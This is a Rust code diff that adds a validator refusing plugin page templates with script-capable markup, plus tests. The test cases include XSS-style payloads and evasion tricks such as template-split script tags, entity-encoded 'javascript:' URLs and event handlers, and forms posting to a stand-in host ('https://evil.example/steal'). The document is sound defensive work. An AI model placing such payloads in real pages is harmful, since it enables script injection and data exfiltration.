@@ -442,15 +442,198 @@ pub fn check_page_template(name: &str, text: &str) -> Result<()> {
     if text.len() > MAX_PAGE_TEMPLATE_BYTES {
         return Err(malformed(format!("the page template {name:?} is larger than {MAX_PAGE_TEMPLATE_BYTES} bytes")));
     }
+    // as written, and as the browser gets it once the template's own constructs are gone
+    // (`<scr{{ "" }}ipt>` is a script too)
     let folded = text.to_ascii_lowercase();
-    if folded.contains("<script") || folded.contains("javascript:") {
-        return Err(malformed(format!("the page template {name:?} carries a script; plugin pages run no plugin script")));
+    let markup = without_template_constructs(&folded);
+    for folded in [&folded, &markup] {
+        if folded.contains("<script") || folded.contains("javascript:") {
+            return Err(malformed(format!("the page template {name:?} carries a script; plugin pages run no plugin script")));
+        }
+        // nothing that re-points the page's links or navigates it away by itself
+        if folded.contains("<base") || folded.contains("http-equiv") {
+            return Err(malformed(format!("the page template {name:?} carries <base> or http-equiv; a plugin page keeps the dashboard's")));
+        }
     }
-    // nothing that re-points the page's links or navigates it away by itself
-    if folded.contains("<base") || folded.contains("http-equiv") {
-        return Err(malformed(format!("the page template {name:?} carries <base> or http-equiv; a plugin page keeps the dashboard's")));
+    if let Some(found) = script_capable(&markup) {
+        return Err(malformed(format!("the page template {name:?} carries {found}")));
     }
     Ok(())
+}
+
+/// Elements that run or frame other content: a plugin page embeds none.
+const EMBEDDING_ELEMENTS: &[&str] = &["iframe", "frame", "frameset", "object", "embed", "applet", "portal"];
+
+/// `text` with its template constructs (`{{ … }}`, `{% … %}`, `{# … #}`) taken out, so markup
+/// split around one (`on{{ "" }}click=`) reads as it will render.
+fn without_template_constructs(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some(open) = rest.find('{') {
+        let close = match rest.as_bytes().get(open + 1) {
+            Some(b'{') => "}}",
+            Some(b'%') => "%}",
+            Some(b'#') => "#}",
+            _ => {
+                out.push_str(&rest[..=open]);
+                rest = &rest[open + 1..];
+                continue;
+            }
+        };
+        out.push_str(&rest[..open]);
+        // an unterminated construct is the template engine's to refuse: nothing after it renders
+        rest = rest[open + 2..].find(close).map_or("", |end| &rest[open + 2 + end + 2..]);
+    }
+    out.push_str(rest);
+    out
+}
+
+/// The first script-capable thing in `markup` (lowercase, template constructs taken out), said
+/// for a person: an element that frames or embeds other content, an event-handler attribute
+/// (`on…`, and htmx's `hx-on…`), a URL with a script scheme, a form sent away from the
+/// dashboard (an `action` or `formaction` that is an absolute URL, `http:`, `https:`, `//`…).
+fn script_capable(markup: &str) -> Option<String> {
+    let shown = |s: &str| capstan_core::text::truncate(s, 60);
+    let mut at = 0;
+    while let Some(open) = markup[at..].find('<') {
+        let start = at + open + 1;
+        let tag_len = markup[start..].find(|c: char| !(c.is_ascii_alphanumeric() || c == '-')).unwrap_or(markup.len() - start);
+        let tag = &markup[start..start + tag_len];
+        if !tag.starts_with(|c: char| c.is_ascii_alphabetic()) {
+            at = start;
+            continue;
+        }
+        if EMBEDDING_ELEMENTS.contains(&tag) {
+            return Some(format!("a <{tag}> element; a plugin page frames or embeds no other content"));
+        }
+        let (attributes, end) = attributes(markup, start + tag_len);
+        for (attribute, value) in attributes {
+            if (attribute.starts_with("on") && attribute.len() > 2) || attribute.starts_with("hx-on") || attribute.starts_with("data-hx-on")
+            {
+                return Some(format!("the event-handler attribute {}; plugin pages run no plugin script", shown(attribute)));
+            }
+            let url = decode_entities(value);
+            let scheme = url_scheme(&url);
+            if matches!(scheme.as_deref(), Some("javascript" | "vbscript")) {
+                return Some(format!("a script URL in {}; plugin pages run no plugin script", shown(attribute)));
+            }
+            let sends = (tag == "form" && attribute == "action") || attribute == "formaction";
+            if sends && (scheme.is_some() || leaves_the_origin(&url)) {
+                return Some(format!(
+                    "a form sent to {} ({attribute}); a plugin page's forms go to the dashboard (a path such as /p/<pluginId>/-/call/<method>)",
+                    shown(&url)
+                ));
+            }
+        }
+        at = end;
+    }
+    None
+}
+
+/// The attributes of the tag whose name ends at `from` in `markup`, as (name, value), and where
+/// the tag ends. Values are read as a browser reads them: quoted, or up to whitespace or `>`.
+fn attributes(markup: &str, from: usize) -> (Vec<(&str, &str)>, usize) {
+    let bytes = markup.as_bytes();
+    let (mut found, mut at) = (Vec::new(), from);
+    let skip = |at: &mut usize, what: fn(u8) -> bool| {
+        while *at < bytes.len() && what(bytes[*at]) {
+            *at += 1;
+        }
+    };
+    loop {
+        skip(&mut at, |b| b.is_ascii_whitespace() || b == b'/');
+        if at >= bytes.len() || bytes[at] == b'>' {
+            return (found, (at + 1).min(bytes.len()));
+        }
+        let name_start = at;
+        // a name is anything up to whitespace, `/`, `>` or `=` (a leading `=` is part of it)
+        at += 1;
+        skip(&mut at, |b| !(b.is_ascii_whitespace() || matches!(b, b'/' | b'>' | b'=')));
+        let name = &markup[name_start..at];
+        skip(&mut at, |b| b.is_ascii_whitespace());
+        let mut value = "";
+        if at < bytes.len() && bytes[at] == b'=' {
+            at += 1;
+            skip(&mut at, |b| b.is_ascii_whitespace());
+            match bytes.get(at) {
+                Some(&quote) if quote == b'"' || quote == b'\'' => {
+                    let end = markup[at + 1..].find(quote as char).map_or(bytes.len(), |end| at + 1 + end);
+                    value = &markup[at + 1..end];
+                    at = (end + 1).min(bytes.len());
+                }
+                _ => {
+                    let start = at;
+                    skip(&mut at, |b| !(b.is_ascii_whitespace() || b == b'>'));
+                    value = &markup[start..at];
+                }
+            }
+        }
+        found.push((name, value));
+    }
+}
+
+/// An attribute value with the character references a browser resolves in it that could spell
+/// a scheme or a slash (`&#104;ttps:`, `&colon;`, `&sol;&sol;`).
+fn decode_entities(value: &str) -> String {
+    if !value.contains('&') {
+        return value.to_string();
+    }
+    let mut out = String::with_capacity(value.len());
+    let mut rest = value;
+    while let Some(amp) = rest.find('&') {
+        out.push_str(&rest[..amp]);
+        rest = &rest[amp..];
+        let reference = rest[1..].find(';').map(|end| &rest[1..1 + end]).filter(|r| r.len() <= 10);
+        let decoded = reference.and_then(|r| match r {
+            "colon" => Some(':'),
+            "sol" => Some('/'),
+            "bsol" => Some('\\'),
+            "tab" | "newline" => Some(' '),
+            _ => {
+                let number = r.strip_prefix('#')?;
+                let code = match number.strip_prefix(['x', 'X']) {
+                    Some(hex) => u32::from_str_radix(hex, 16).ok()?,
+                    None => number.parse().ok()?,
+                };
+                char::from_u32(code)
+            }
+        });
+        match (reference, decoded) {
+            (Some(r), Some(c)) => {
+                out.push(c);
+                rest = &rest[r.len() + 2..];
+            }
+            _ => {
+                out.push('&');
+                rest = &rest[1..];
+            }
+        }
+    }
+    out.push_str(rest);
+    out
+}
+
+/// A URL as a browser reads it: tabs and line breaks anywhere dropped, leading spaces and
+/// controls trimmed.
+fn url_text(url: &str) -> String {
+    url.chars().filter(|c| !matches!(c, '\t' | '\n' | '\r')).collect::<String>().trim_start_matches(|c: char| c <= ' ').to_string()
+}
+
+/// The scheme `url` names (`https`, `javascript`), if it names one.
+fn url_scheme(url: &str) -> Option<String> {
+    let url = url_text(url);
+    let (scheme, _) = url.split_once(':')?;
+    let valid =
+        scheme.starts_with(|c: char| c.is_ascii_alphabetic()) && scheme.chars().all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c));
+    valid.then(|| scheme.to_ascii_lowercase())
+}
+
+/// Whether `url` (without a scheme) is network-path relative (`//host`, `\\host`, `/\host`):
+/// another origin.
+fn leaves_the_origin(url: &str) -> bool {
+    let url = url_text(url);
+    let mut leading = url.chars().take(2);
+    matches!((leading.next(), leading.next()), (Some('/' | '\\'), Some('/' | '\\')))
 }
 
 /// Refuse `bundle-malformed` unless `bytes` starts like a WebAssembly component.
@@ -782,6 +965,57 @@ requested = ["store", "log"]
         }
         let script: BTreeMap<String, String> = [("pages/a.html".to_string(), "<a href=\"javascript:x()\">".to_string())].into();
         assert_eq!(bundle().with_pages(script).unwrap_err().code, "bundle-malformed");
+    }
+
+    #[test]
+    fn page_templates_carry_no_script_capable_markup() {
+        let refused = [
+            ("<button onclick=\"x()\">go</button>", "onclick"),
+            ("<img src=x ONERROR = x()>", "onerror"),
+            ("<div\nonMouseOver='x()'>", "onmouseover"),
+            ("<a href=/x on{{ '' }}focus=x()>", "onfocus"),
+            ("<div hx-on:click=\"x()\">", "hx-on:click"),
+            ("<iframe src=\"/p/x\"></iframe>", "<iframe>"),
+            ("<OBJECT data=x.swf>", "<object>"),
+            ("<embed src=x>", "<embed>"),
+            ("<form method=post action=\"https://evil.example/steal\">", "https://evil.example/steal"),
+            ("<form action='http://evil.example'>", "http://evil.example"),
+            ("<form action=//evil.example/x>", "//evil.example/x"),
+            ("<form action=\" \\\\evil.example\">", "\\\\evil.example"),
+            ("<form action=\"&#104;ttps&colon;//evil.example\">", "https://evil.example"),
+            ("<button formaction=\"https://evil.example\">send</button>", "formaction"),
+            ("<a href=\"jav&#97;script:x()\">", "a script URL"),
+            ("<scr{{ '' }}ipt>x()</script>", "a script"),
+        ];
+        for (markup, named) in refused {
+            let refusal = check_page_template("pages/a.html", markup).expect_err(markup);
+            assert_eq!(refusal.code, "bundle-malformed", "{markup}");
+            assert!(refusal.message.contains("\"pages/a.html\"") && refusal.message.contains(named), "{markup}: {}", refusal.message);
+        }
+        let allowed = [
+            "<form method=\"post\" action=\"/p/backups/-/call/create\"><input name=\"organizationId\" value=\"{{ org }}\"></form>",
+            "<form action=\"{{ base }}/call\"><select><option value=a>one</option></select></form>",
+            "<p>Mail is on: 3 < 4, {% if online == true %}online{% endif %} <a href=\"?page=2&amp;on=1\">next</a></p>",
+            "<span title=\"note: {{ x }}\" data-on=\"1\">x</span>",
+        ];
+        for markup in allowed {
+            check_page_template("pages/a.html", markup).unwrap_or_else(|e| panic!("{markup}: {e}"));
+        }
+    }
+
+    #[test]
+    fn the_first_party_plugins_page_templates_pass() {
+        let plugins = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../plugins");
+        let mut checked = 0;
+        for entry in std::fs::read_dir(&plugins).unwrap() {
+            let dir = entry.unwrap().path();
+            if !dir.is_dir() {
+                continue;
+            }
+            let pages = read_page_templates(&dir).unwrap_or_else(|e| panic!("{}: {e}", dir.display()));
+            checked += pages.len();
+        }
+        assert!(checked >= 10, "the plugins' templates were read ({checked})");
     }
 
     #[test]
